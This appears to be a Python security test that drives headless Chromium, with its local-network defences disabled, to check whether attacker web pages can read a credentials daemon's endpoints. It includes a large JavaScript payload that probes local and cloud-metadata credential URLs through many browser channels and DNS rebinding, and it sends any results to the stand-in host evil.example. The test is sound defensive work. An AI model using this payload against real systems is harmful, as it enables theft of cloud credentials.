"""Web pages in a real Chromium try to read from every listener, also by DNS rebinding."""
# needs: chromium

import contextlib
import http.server
import json
import os
import re
import shutil
import subprocess
import sys
import threading
import time

from common import Daemon, clean_environment, credentials, directory, fail, held, remove, request

METADATA = "100.100.100.200"
ROLE = "/latest/meta-data/ram/security-credentials/"
# A page at this address is one of the attacker's; the addresses of rebinding are the attacker's before, and ours after.
PAGE = "http://evil.example:8099/page"
BEFORE = "127.0.0.9"
REBOUND = {
    "data.rebound.example": ("127.0.0.1", 7002),
    "admin.rebound.example": ("127.0.0.1", 7003),
    "metadata.rebound.example": (METADATA, 80),
}

if shutil.which("chromium") is None:
    print("SKIPPED: chromium is missing and cannot be installed: no web page attacked anything", flush=True)
    sys.exit(os.environ.get("CI") == "true")

SCRIPT = r"""
const report = (how, url, text) =>
  fetch('http://evil.example:8099/report', {method: 'POST', mode: 'no-cors', body: JSON.stringify({how, url, text: String(text)})});
const wait = (ms) => new Promise((done) => setTimeout(done, ms));
const frame = (attributes) => {
  const made = Object.assign(document.createElement('iframe'), attributes);
  document.body.append(made);
  return made;
};

const read = async (how, url, options) => {
  try {
    const answer = await fetch(url, {signal: AbortSignal.timeout(4000), ...options});
    const text = await answer.text();
    const headers = JSON.stringify([...answer.headers]);
    if (answer.type !== 'opaque' && answer.type !== 'opaqueredirect') report(how, url, `${answer.status} ${headers} ${text}`);
    else if (text) report(how, url, text);
  } catch {}
};

const element = (name, url, attributes = {}, property = 'src') => new Promise((done) => {
  const made = Object.assign(document.createElement(name), attributes);
  made.onload = made.onloadeddata = () => { report(`a loaded <${name}>`, url, 'LOADED'); done(); };
  made.onerror = done;
  made[property] = url;
  document.body.append(made);
  setTimeout(done, 4000);
});

const framed = async (how, made, url) => {
  await Promise.race([new Promise((done) => { made.onload = done; }), wait(3000)]);
  try { if (!made.contentDocument?.URL.startsWith('about:')) report(how, url, made.contentDocument.documentElement.outerHTML); } catch {}
};

const form = async (url, method, enctype) => {
  const target = frame({name: `form${Math.random()}`});
  const made = Object.assign(document.createElement('form'), {action: url, method, enctype, target: target.name});
  document.body.append(made);
  made.submit();
  await framed(`a form by ${method}`, target, url);
};

const worker = (body) => new Worker(URL.createObjectURL(new Blob([body])));

const attack = async (url) => {
  const all = [];
  for (const mode of ['cors', 'no-cors', 'same-origin'])
    for (const method of ['GET', 'HEAD', 'POST'])
      all.push(read(`fetch ${mode} ${method}`, url, {mode, method}));
  all.push(
    read('fetch with cookies', url, {credentials: 'include', mode: 'no-cors'}),
    read('fetch without a referrer', url, {referrerPolicy: 'no-referrer', mode: 'no-cors', cache: 'reload'}),
    read('fetch without redirects', url, {redirect: 'manual', keepalive: true, mode: 'no-cors'}),
    read('fetch PUT', url, {method: 'PUT', headers: {'X-aliyun-ecs-metadata-token-ttl-seconds': '60'}}),
    read('fetch with another User-Agent', url, {headers: {'User-Agent': 'curl/8'}}),
    read('fetch with Authorization', url, {headers: {Authorization: 'x'}}),
    new Promise((done) => {
      const asked = new XMLHttpRequest();
      asked.onload = () => report('XMLHttpRequest', url, asked.responseText);
      asked.onloadend = done;
      asked.open('GET', url);
      asked.send();
    }),
    element('img', url), element('script', url), element('script', url, {type: 'module'}),
    element('link', url, {rel: 'stylesheet'}, 'href'), element('link', url, {rel: 'prefetch'}, 'href'),
    element('link', url, {rel: 'preload', as: 'script'}, 'href'), element('video', url), element('audio', url),
    framed('an <iframe>', frame({src: url}), url),
    framed('an <iframe> in a sandbox', frame({src: url, sandbox: 'allow-scripts allow-same-origin'}), url),
    framed('an <iframe> that is refreshed', frame({srcdoc: `<meta http-equiv=refresh content="0;url=${url}">`}), url),
    form(url, 'GET', 'text/plain'), form(url, 'POST', 'text/plain'), form(url, 'POST', 'multipart/form-data'),
    new Promise((done) => {
      const source = new EventSource(url);
      source.onmessage = (event) => report('EventSource', url, event.data);
      source.onopen = () => report('an opened EventSource', url, 'LOADED');
      source.onerror = () => { source.close(); done(); };
      setTimeout(done, 4000);
    }),
    new Promise((done) => {
      try {
        const socket = new WebSocket(url.replace('http', 'ws'));
        socket.onopen = () => report('an opened WebSocket', url, 'LOADED');
        socket.onmessage = (event) => report('WebSocket', url, event.data);
        socket.onclose = done;
      } catch { done(); }
      setTimeout(done, 4000);
    }),
    new Promise((done) => {
      const made = worker(`
        fetch('${url}').then((a) => a.text()).then((t) => postMessage('fetched ' + t), () => 0);
        try { importScripts('${url}'); postMessage('LOADED'); } catch {}`);
      made.onmessage = (event) => report('a worker', url, event.data);
      setTimeout(done, 2000);
    }),
    import(url).then(() => report('import()', url, 'LOADED'), () => 0),
  );
  navigator.sendBeacon(url, 'x');
  const inNull = frame({sandbox: 'allow-scripts', srcdoc:
    `<script>fetch('${url}').then((a) => a.text()).then((t) => parent.postMessage(t, '*'), () => 0)<` + '/script>'});
  addEventListener('message', (event) => { if (event.source === inNull.contentWindow) report('a page without origin', url, event.data); });
  try { new Worker(url).onmessage = () => 0; } catch {}
  try { new SharedWorker(url); } catch {}
  await Promise.allSettled(all);
};

addEventListener('load', async () => {
  const plan = await (await fetch('http://evil.example:8099/plan', {cache: 'no-store'})).json();
  const here = location.host.replace(/:80$/, '');
  const urls = plan[location.hostname] ?? [];
  report('begun', here, '');
  for (let start = 0; start < urls.length; start += 4)
    await Promise.all(urls.slice(start, start + 4).map((url) => attack(new URL(url, location).href)));
  report('done', location.hostname, '');
});
"""


class Web:
    """The attacker's web server, and what its pages report."""

    def __init__(self, frames):
        self.plan = {}
        self.reports = []
        web = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                if self.path == "/plan":
                    self.answer(json.dumps(web.plan), "application/json", "no-store")
                else:
                    # Only the first page contains the others.
                    inner = frames if self.headers["Host"].startswith("evil") else ""
                    page = f"<!doctype html><body>{inner}<script>{SCRIPT}</script></body>"
                    self.answer(page, "text/html", "no-store" if inner else "max-age=3600")

            def do_POST(self):
                body = self.rfile.read(int(self.headers["Content-Length"]))
                web.reports.append(json.loads(body))
                self.answer("", "text/plain", "no-store")

            def answer(self, body, kind, cache):
                self.send_response(200)
                for name, value in [("Content-Type", kind), ("Cache-Control", cache),
                                    ("Access-Control-Allow-Origin", "*"), ("Content-Length", str(len(body)))]:
                    self.send_header(name, value)
                self.end_headers()
                self.wfile.write(body.encode())

            def log_message(self, *_):
                pass

        self.handler = Handler

    def listen(self, address):
        server = http.server.ThreadingHTTPServer(address, self.handler)
        threading.Thread(target=server.serve_forever, daemon=True).start()
        return server

    def reported(self, how):
        return {report["url"] for report in list(self.reports) if report["how"] == how}

    def wait(self, how, expected, seconds):
        end = time.monotonic() + seconds
        while missing := expected - self.reported(how):
            if time.monotonic() > end:
                fail(f"the browser itself failed: {how} is missing for {sorted(missing)}")
            time.sleep(0.1)


@contextlib.contextmanager
def chromium(profile, addresses, url):
    """Opens a page in a browser that resolves names as told, and leaves its own defences of local networks out."""
    rules = ",".join(f"MAP {name} {address}" for name, address in addresses.items())
    browser = subprocess.Popen(
        ["chromium", "--headless=new", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--remote-debugging-port=0",
         "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,"
         "PrivateNetworkAccessSendPreflights,PrivateNetworkAccessRespectPreflightResults,Translate,MediaRouter",
         f"--user-data-dir={profile}", f"--host-resolver-rules={rules}", url],
        env={**clean_environment(), "HOME": profile},
        stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True,
    )
    try:
        yield
    finally:
        # It writes its cache when it ends.
        browser.terminate()
        try:
            browser.wait(10)
        except subprocess.TimeoutExpired:
            browser.kill()
            browser.wait()


def shown(profile, url):
    """What a user sees who opens an address."""
    seen = subprocess.run(
        ["chromium", "--headless=new", "--no-sandbox", "--disable-gpu", f"--user-data-dir={profile}", "--dump-dom", url],
        env={**clean_environment(), "HOME": profile}, capture_output=True, text=True, timeout=30,
    )
    return seen.stdout


subprocess.run(["ip", "address", "add", f"{METADATA}/32", "dev", "lo"], check=True)
profile = directory()
frames = "".join(f'<iframe src="http://{name}:{port}/page"></iframe>' for name, (_, port) in REBOUND.items())
web = Web(frames)
web.listen(("127.0.0.1", 8099))
daemon = Daemon("serve", "--sandbox", "--container", "--metadata-listen", f"{METADATA}:80")
uri = daemon.uri()
sts = daemon.line(r"http://127\.0\.0\.1:\d+/_sandbox/faults").group(0)
try:
    # First the names lead to the attacker, whose pages the browser keeps.
    names = {"evil.example": "127.0.0.1", **dict.fromkeys(REBOUND, BEFORE)}
    begun = {"evil.example:8099"} | {f"{name}:{port}".removesuffix(":80") for name, (_, port) in REBOUND.items()}
    servers = [web.listen((BEFORE, port)) for _, port in REBOUND.values()]
    with chromium(profile, names, PAGE):
        web.wait("begun", begun, 20)
        web.wait("done", {"evil.example", *REBOUND}, 5)
    for server in servers:
        server.shutdown()
        server.server_close()

    # Then they lead to the daemon.
    web.reports.clear()
    paths = ["/api/v1/credentials/0", "/api/v1/container/0"]
    roles = [ROLE, f"{ROLE}sandbox-role", "/latest/api/token"]
    web.plan = {
        "evil.example": [
            *(f"http://127.0.0.1:7002{path}" for path in paths),
            f"http://[::1]:7002{paths[0]}",
            *(f"http://{METADATA}{path}" for path in roles[:2]),
            "http://127.0.0.1:7003/ready", "http://127.0.0.1:7003/stop", sts,
            "http://127.0.0.1:7003/", "http://127.0.0.1:7003/metrics",
        ],
        "data.rebound.example": paths,
        "admin.rebound.example": ["/ready", "/stop", "/", "/metrics"],
        "metadata.rebound.example": roles,
    }
    names |= {name: address for name, (address, _) in REBOUND.items()}
    with chromium(profile, names, PAGE):
        web.wait("begun", begun, 20)
        web.wait("done", {"evil.example", *REBOUND}, 30)
    pages = [shown(profile, url) for url in (uri, f"http://{METADATA}{ROLE}sandbox-role")]
    status_page = shown(profile, "http://127.0.0.1:7003/")
finally:
    remove(profile)

leak = re.compile(r'LOADED|AccessKey|SecurityToken|sandbox-role|"status":"|"Faults"|ram_sidecar_')
reports = list(web.reports)
leaks = [report for report in reports if leak.search(report["text"])]
for report in leaks[:20]:
    print(f"   {report['how']} of {report['url']}: {report['text'][:200]}", file=sys.stderr)
held(not leaks, f"a page reads from a listener, or learns that it exists ({len(reports)} reports)")
held(not any(re.search("AccessKeySecret|SecurityToken", page) for page in pages), "a browser shows credentials")
held(">fresh<" in status_page, "a browser shows the status to whoever opens its address")
served = [line for line in daemon.output if "A new caller requested credentials" in line]
held(not served, f"a browser's request is answered with credentials, if only a blind one: {served[:3]}")
held(any("BrowserRefused" in line for line in daemon.output), "the pages reached the daemon")
held(daemon.process.poll() is None and credentials(uri), "a page stops the daemon")
status, headers, _ = request("127.0.0.1:7003", "/ready", headers={"Host": "10.9.8.7:7003"})
held(status == 200, "probes of the kubelet are answered")
for address, path in [("127.0.0.1:7002", paths[0]), (f"{METADATA}:80", ROLE), ("127.0.0.1:7003", "/live"),
                      ("127.0.0.1:7003", "/unknown"), (sts.split("/")[2], "/_sandbox/faults")]:
    _, headers, _ = request(address, path)
    held(
        [headers.get(name) for name in ("cross-origin-resource-policy", "x-content-type-options", "x-frame-options",
                                        "cross-origin-opener-policy")] == ["same-origin", "nosniff", "DENY", "same-origin"],
        f"{address}{path} is isolated from pages",
    )
daemon.stop()
